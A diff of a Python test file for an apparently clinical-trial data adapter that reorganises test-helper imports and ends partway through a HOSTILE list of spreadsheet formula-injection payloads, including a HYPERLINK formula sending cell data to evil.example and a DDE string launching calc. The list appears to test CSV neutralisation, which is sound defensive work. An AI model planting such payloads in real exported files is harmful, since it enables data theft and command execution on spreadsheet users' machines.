@@ -15,15 +15,9 @@ from adapter.config import ServerConfig, ServiceConfig
 from adapter.csv_cells import csv_line, neutralise
 from adapter.service import create_app
 from mappings import fhirjson
-from tests.adapter.test_service_trial_data import (
-    BASE,
-    NCT,
-    STUDY,
-    _lab,
-    _observation,
-    _subject,
-    searchset,
-)
+from tests.adapter.test_service_observations import _lab, _observation
+from tests.adapter.trial_service_helpers import BASE, NCT, STUDY, searchset
+from tests.adapter.trial_service_helpers import subject_resource as _subject
 from tests.service_keys import KEY_ENV, keyed_client
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
